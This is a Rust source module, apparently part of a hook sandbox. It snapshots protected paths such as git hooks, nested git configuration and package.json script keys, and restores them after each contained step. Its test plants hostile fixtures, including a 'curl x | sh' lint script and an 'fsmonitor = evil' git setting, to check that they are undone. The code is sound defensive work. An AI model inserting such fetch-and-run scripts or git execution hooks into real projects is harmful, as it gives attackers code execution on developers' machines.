//! After each contained step — an exec block, a hook — the protected set (`sandbox::protected`,
//! docs/hooks-sandbox.md "Protected") is compared with how it was before the step and put
//! back: a changed file gets its content and mode back, an entry created under a protected
//! folder (or where a protected entry did not exist) is removed, a changed protected key of
//! `package.json` gets its value back while the rest of the file stays as the step left it.
//! The sandbox keeps most of these read-only already (a read-only mount with namespaces; left
//! out of the Landlock grants at the worktree root without); this catches the rest: deeper
//! entries without namespaces, entries that did not exist, keys, and nested git directories.
//!
//! Only the parts of a nested git directory git runs are compared (`config`,
//! `config.worktree`, `commondir`, `hooks/`), not its objects. Nothing is followed through a
//! symbolic link: a folder on the way that became one makes the entry "not put back", which
//! the step reports all the same. Git-free.

use std::ffi::OsString;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};

use crate::sandbox::protected::{self, Kind, Protected};

/// Most bytes and entries one snapshot holds; past them an entry is compared no deeper.
const MAX_BYTES: usize = 64 << 20;
const MAX_ENTRIES: usize = 20_000;

/// The parts of a git directory git reads as configuration or runs.
const GIT_PARTS: &[&str] = &["config", "config.worktree", "commondir", "hooks"];

/// One entry as it was.
#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    Absent,
    File {
        bytes: Vec<u8>,
        mode: u32,
    },
    Link(PathBuf),
    /// A folder: its entries (only [`GIT_PARTS`] for a git directory).
    Dir(Vec<(OsString, State)>),
    /// Something else (a FIFO, a device), or past the limits: left alone.
    Other,
}

/// What was changed and put back (or could not be).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PutBack {
    /// Root-relative: the entry, or `package.json scripts.lint` for a key.
    pub rel: String,
    pub what: String,
    /// Why it could not be put back, when it could not.
    pub failed: Option<String>,
}

impl PutBack {
    /// `.githooks/pre-commit (in .githooks/, …)`, with why it stayed changed if it did.
    pub fn describe(&self) -> String {
        match &self.failed {
            None => format!("{} ({})", self.rel, self.what),
            Some(why) => format!("{} ({}; NOT put back: {why})", self.rel, self.what),
        }
    }
}

struct Item {
    rel: String,
    what: String,
    git: bool,
    state: State,
}

struct KeyFile {
    rel: String,
    bytes: Option<Vec<u8>>,
    keys: Vec<protected::Key>,
}

/// The protected set as it was before a step.
pub struct Snapshot {
    root: PathBuf,
    items: Vec<Item>,
    keys: Vec<KeyFile>,
    /// The root's entries named like lint-staged's configuration, when hook entries are
    /// guarded.
    prefixed: Option<Vec<OsString>>,
}

struct Budget {
    bytes: usize,
    entries: usize,
}

impl Snapshot {
    /// Reads what `p` protects under the worktree `root`.
    pub fn take(root: &Path, p: &Protected) -> Snapshot {
        let root = std::fs::canonicalize(root).unwrap_or_else(|_| root.to_path_buf());
        let mut budget = Budget {
            bytes: 0,
            entries: 0,
        };
        let mut items = Vec::new();
        for e in &p.entries {
            let git = e.kind == Kind::Git;
            let state = match clean_path(&root, &e.rel) {
                Some(abs) => read_state(&abs, git, &mut budget),
                None => State::Other,
            };
            items.push(Item {
                rel: e.rel.clone(),
                what: e.what.clone(),
                git,
                state,
            });
        }
        let mut keys: Vec<KeyFile> = Vec::new();
        for k in &p.keys {
            match keys.iter_mut().find(|f| f.rel == k.file) {
                Some(f) => f.keys.push(k.clone()),
                None => keys.push(KeyFile {
                    rel: k.file.clone(),
                    bytes: clean_path(&root, &k.file).and_then(|a| read_file(&a)),
                    keys: vec![k.clone()],
                }),
            }
        }
        let hooks = p.entries.iter().any(|e| e.kind == Kind::Hook);
        let prefixed = hooks.then(|| prefixed_names(&root));
        Snapshot {
            root,
            items,
            keys,
            prefixed,
        }
    }

    /// Compares with now and puts back what changed; returns what it found changed.
    pub fn put_back(self) -> Vec<PutBack> {
        let mut out = Vec::new();
        for item in &self.items {
            if item.state == State::Other {
                continue;
            }
            let Some(abs) = clean_path(&self.root, &item.rel) else {
                continue;
            };
            let mut budget = Budget {
                bytes: 0,
                entries: 0,
            };
            let now = read_state(&abs, item.git, &mut budget);
            if now == item.state {
                continue;
            }
            let failed = restore(&self.root, &abs, &item.state, &now)
                .err()
                .map(|e| e.to_string());
            out.push(PutBack {
                rel: item.rel.clone(),
                what: item.what.clone(),
                failed,
            });
        }
        for f in &self.keys {
            out.extend(self.put_back_keys(f));
        }
        if let Some(before) = &self.prefixed {
            for name in prefixed_names(&self.root) {
                if before.contains(&name) {
                    continue;
                }
                let abs = self.root.join(&name);
                let failed = remove_any(&self.root, &abs).err().map(|e| e.to_string());
                let rel = name.to_string_lossy().into_owned();
                out.push(PutBack {
                    what: protected::prefixed(&rel).unwrap_or_default().to_string(),
                    rel,
                    failed,
                });
            }
        }
        out
    }

    /// The keys of one file whose value changed, put back.
    fn put_back_keys(&self, f: &KeyFile) -> Vec<PutBack> {
        let Some(abs) = clean_path(&self.root, &f.rel) else {
            return Vec::new();
        };
        let now = read_file(&abs);
        let keys: Vec<&protected::Key> = f.keys.iter().collect();
        let changed = protected::changed_keys(&keys, f.bytes.as_deref(), now.as_deref());
        if changed.is_empty() {
            return Vec::new();
        }
        let bytes = match (&f.bytes, &now) {
            (Some(b), Some(n)) => protected::restore_keys(&changed, b, n)
                .filter(|r| !same_json(r, b))
                .unwrap_or_else(|| b.clone()),
            (Some(b), None) => b.clone(),
            (None, _) => Vec::new(),
        };
        let mode = std::fs::symlink_metadata(&abs)
            .map(|m| m.mode() & 0o7777)
            .unwrap_or(0o644);
        let state = match &f.bytes {
            Some(_) => State::File { bytes, mode },
            None => State::Absent,
        };
        let current = match now {
            Some(bytes) => State::File { bytes, mode },
            None => State::Absent,
        };
        let failed = restore(&self.root, &abs, &state, &current)
            .err()
            .map(|e| e.to_string());
        changed
            .into_iter()
            .map(|k| PutBack {
                rel: format!("{} {}", f.rel, k.name()),
                what: k.what.clone(),
                failed: failed.clone(),
            })
            .collect()
    }
}

/// Where the sandbox refused a write to the protected set: the first line of `output` that
/// says a write was refused (`Read-only file system`, `Permission denied`, `Operation not
/// permitted`) and names a protected entry of `p` (or a path in one), relative to the worktree
/// `root` or absolute. Such a step is the user's to lift like one whose change was put back.
pub fn refused_entry(output: &str, root: &Path, p: &Protected) -> Option<PutBack> {
    const REFUSED: [&str; 3] = [
        "read-only file system",
        "permission denied",
        "operation not permitted",
    ];
    let root = std::fs::canonicalize(root).unwrap_or_else(|_| root.to_path_buf());
    for line in output.lines() {
        let lower = line.to_ascii_lowercase();
        if !REFUSED.iter().any(|r| lower.contains(r)) {
            continue;
        }
        let words = line.split(|c: char| c.is_whitespace() || "'\"`:;,()".contains(c));
        for w in words.filter(|w| !w.is_empty()) {
            let rel = match Path::new(w).strip_prefix(&root) {
                Ok(r) => r.to_string_lossy().into_owned(),
                Err(_) => w.trim_start_matches("./").to_string(),
            };
            let hit = p
                .entries
                .iter()
                .find(|e| rel == e.rel || rel.starts_with(&format!("{}/", e.rel)));
            if let Some(e) = hit {
                return Some(PutBack {
                    rel,
                    what: e.what.clone(),
                    failed: None,
                });
            }
        }
    }
    None
}

/// Whether two texts parse to the same JSON value (a formatter's rewrite).
fn same_json(a: &[u8], b: &[u8]) -> bool {
    let p = |x: &[u8]| serde_json::from_slice::<serde_json::Value>(x).ok();
    matches!((p(a), p(b)), (Some(x), Some(y)) if x == y)
}

/// `root/rel` when `rel` is a plain relative path.
fn clean_path(root: &Path, rel: &str) -> Option<PathBuf> {
    let p = Path::new(rel);
    let plain = p
        .components()
        .all(|c| matches!(c, std::path::Component::Normal(_)));
    (plain && !rel.is_empty()).then(|| root.join(p))
}

fn prefixed_names(root: &Path) -> Vec<OsString> {
    std::fs::read_dir(root)
        .map(|l| {
            l.flatten()
                .map(|e| e.file_name())
                .filter(|n| protected::prefixed(&n.to_string_lossy()).is_some())
                .collect()
        })
        .unwrap_or_default()
}

fn read_file(abs: &Path) -> Option<Vec<u8>> {
    let md = std::fs::symlink_metadata(abs).ok()?;
    if !md.is_file() {
        return None;
    }
    open_nofollow(abs).ok().and_then(|mut f| {
        use std::io::Read;
        let mut v = Vec::new();
        f.read_to_end(&mut v).ok().map(|_| v)
    })
}

fn open_nofollow(abs: &Path) -> std::io::Result<std::fs::File> {
    std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(abs)
}

/// What is at `abs` now (a git directory: only its [`GIT_PARTS`]).
fn read_state(abs: &Path, git: bool, budget: &mut Budget) -> State {
    budget.entries += 1;
    if budget.entries > MAX_ENTRIES || budget.bytes > MAX_BYTES {
        return State::Other;
    }
    let Ok(md) = std::fs::symlink_metadata(abs) else {
        return State::Absent;
    };
    let t = md.file_type();
    if t.is_symlink() {
        return std::fs::read_link(abs).map_or(State::Other, State::Link);
    }
    if t.is_file() {
        return match read_file(abs) {
            Some(bytes) => {
                budget.bytes += bytes.len();
                State::File {
                    bytes,
                    mode: md.permissions().mode() & 0o7777,
                }
            }
            None => State::Other,
        };
    }
    if !t.is_dir() {
        return State::Other;
    }
    let names: Vec<OsString> = match git {
        true => GIT_PARTS.iter().map(OsString::from).collect(),
        false => match std::fs::read_dir(abs) {
            Ok(l) => {
                let mut v: Vec<OsString> = l.flatten().map(|e| e.file_name()).collect();
                v.sort();
                v
            }
            Err(_) => return State::Other,
        },
    };
    let mut children = Vec::new();
    for n in names {
        let s = read_state(&abs.join(&n), false, budget);
        // A git directory's part that is not there is not listed (it may be made by git).
        if git && s == State::Absent {
            continue;
        }
        children.push((n, s));
    }
    State::Dir(children)
}

/// Refuses when a folder between `root` and `abs` is not a plain folder (a link made by the
/// step would lead the put-back elsewhere).
fn check_way(root: &Path, abs: &Path) -> std::io::Result<()> {
    let rest = abs
        .strip_prefix(root)
        .map_err(|_| std::io::Error::other("outside the worktree"))?;
    let mut at = root.to_path_buf();
    let parts: Vec<_> = rest.components().collect();
    for c in parts.iter().take(parts.len().saturating_sub(1)) {
        at.push(c);
        let md = std::fs::symlink_metadata(&at)?;
        if !md.is_dir() {
            return Err(std::io::Error::other(format!(
                "'{}' on the way is no longer a folder",
                at.strip_prefix(root).unwrap_or(&at).display()
            )));
        }
    }
    Ok(())
}

/// Removes whatever is at `abs` (a folder with everything in it).
fn remove_any(root: &Path, abs: &Path) -> std::io::Result<()> {
    check_way(root, abs)?;
    match std::fs::symlink_metadata(abs) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(e) => Err(e),
        Ok(md) if md.is_dir() => std::fs::remove_dir_all(abs),
        Ok(_) => std::fs::remove_file(abs),
    }
}

/// Makes `abs` what `want` says, `now` being what it is.
fn restore(root: &Path, abs: &Path, want: &State, now: &State) -> std::io::Result<()> {
    if want == now {
        return Ok(());
    }
    check_way(root, abs)?;
    match (want, now) {
        (State::Other, _) => Ok(()),
        (State::Absent, _) => remove_any(root, abs),
        (State::Dir(want_children), State::Dir(now_children)) => {
            for (name, now_child) in now_children {
                let kept = want_children.iter().any(|(n, _)| n == name);
                if !kept && *now_child != State::Absent {
                    remove_any(root, &abs.join(name))?;
                }
            }
            for (name, want_child) in want_children {
                let now_child = now_children
                    .iter()
                    .find(|(n, _)| n == name)
                    .map_or(State::Absent, |(_, s)| s.clone());
                restore(root, &abs.join(name), want_child, &now_child)?;
            }
            Ok(())
        }
        (State::Dir(want_children), _) => {
            remove_any(root, abs)?;
            std::fs::create_dir(abs)?;
            for (name, child) in want_children {
                restore(root, &abs.join(name), child, &State::Absent)?;
            }
            Ok(())
        }
        (State::File { bytes, mode }, _) => {
            remove_any(root, abs)?;
            let mut f = std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .custom_flags(libc::O_NOFOLLOW)
                .mode(*mode)
                .open(abs)?;
            std::io::Write::write_all(&mut f, bytes)?;
            f.set_permissions(std::fs::Permissions::from_mode(*mode))
        }
        (State::Link(target), _) => {
            remove_any(root, abs)?;
            std::os::unix::fs::symlink(target, abs)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::protected::{Entry, Key};

    #[test]
    fn changed_created_and_keyed_entries_are_put_back() {
        let d = tempfile::tempdir().unwrap();
        let r = std::fs::canonicalize(d.path()).unwrap();
        std::fs::create_dir_all(r.join(".githooks")).unwrap();
        std::fs::create_dir_all(r.join("sub/.git/hooks")).unwrap();
        std::fs::write(
            r.join(".githooks/pre-commit"),
            "#!/bin/sh\nsh scripts/lint.sh\n",
        )
        .unwrap();
        std::fs::write(r.join("sub/.git/config"), "[core]\n").unwrap();
        std::fs::write(r.join("sub/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(
            r.join("package.json"),
            "{\"name\": \"t\", \"scripts\": {\"lint\": \"eslint .\"}}\n",
        )
        .unwrap();
        let p = Protected {
            entries: vec![
                Entry {
                    rel: ".githooks".into(),
                    what: "hooks".into(),
                    kind: Kind::Hook,
                },
                Entry {
                    rel: "sub/.git".into(),
                    what: "nested".into(),
                    kind: Kind::Git,
                },
                Entry {
                    rel: "empty/.git".into(),
                    what: "submodule".into(),
                    kind: Kind::Git,
                },
            ],
            keys: vec![Key {
                file: "package.json".into(),
                path: vec!["scripts".into(), "lint".into()],
                what: "a script".into(),
            }],
            called: Vec::new(),
        };
        let snap = Snapshot::take(&r, &p);
        std::fs::write(r.join(".githooks/pre-commit"), "evil\n").unwrap();
        std::fs::write(r.join(".githooks/post-checkout"), "evil\n").unwrap();
        std::fs::write(r.join("sub/.git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        std::fs::write(r.join("sub/.git/HEAD"), "ref: refs/heads/other\n").unwrap();
        std::fs::write(r.join("sub/.git/hooks/pre-commit"), "evil\n").unwrap();
        std::fs::create_dir_all(r.join("empty/.git")).unwrap();
        std::fs::write(r.join(".lintstagedrc.js"), "evil\n").unwrap();
        std::fs::write(
            r.join("package.json"),
            "{\"name\": \"t2\", \"scripts\": {\"lint\": \"curl x | sh\"}}\n",
        )
        .unwrap();
        let back = snap.put_back();
        let rels: Vec<&str> = back.iter().map(|b| b.rel.as_str()).collect();
        assert_eq!(
            rels,
            [
                ".githooks",
                "sub/.git",
                "empty/.git",
                "package.json scripts.lint",
                ".lintstagedrc.js"
            ]
        );
        assert!(back.iter().all(|b| b.failed.is_none()), "{back:?}");
        let read = |p: &str| std::fs::read_to_string(r.join(p)).unwrap();
        assert_eq!(
            read(".githooks/pre-commit"),
            "#!/bin/sh\nsh scripts/lint.sh\n"
        );
        assert!(!r.join(".githooks/post-checkout").exists());
        assert_eq!(read("sub/.git/config"), "[core]\n");
        // Not a part git runs: left as the step made it.
        assert_eq!(read("sub/.git/HEAD"), "ref: refs/heads/other\n");
        assert!(!r.join("sub/.git/hooks/pre-commit").exists());
        assert!(!r.join("empty/.git").exists() && !r.join(".lintstagedrc.js").exists());
        let pkg: serde_json::Value = serde_json::from_str(&read("package.json")).unwrap();
        assert_eq!(pkg["scripts"]["lint"], "eslint .");
        assert_eq!(
            pkg["name"], "t2",
            "the rest of the file stays as the step left it"
        );
    }
}
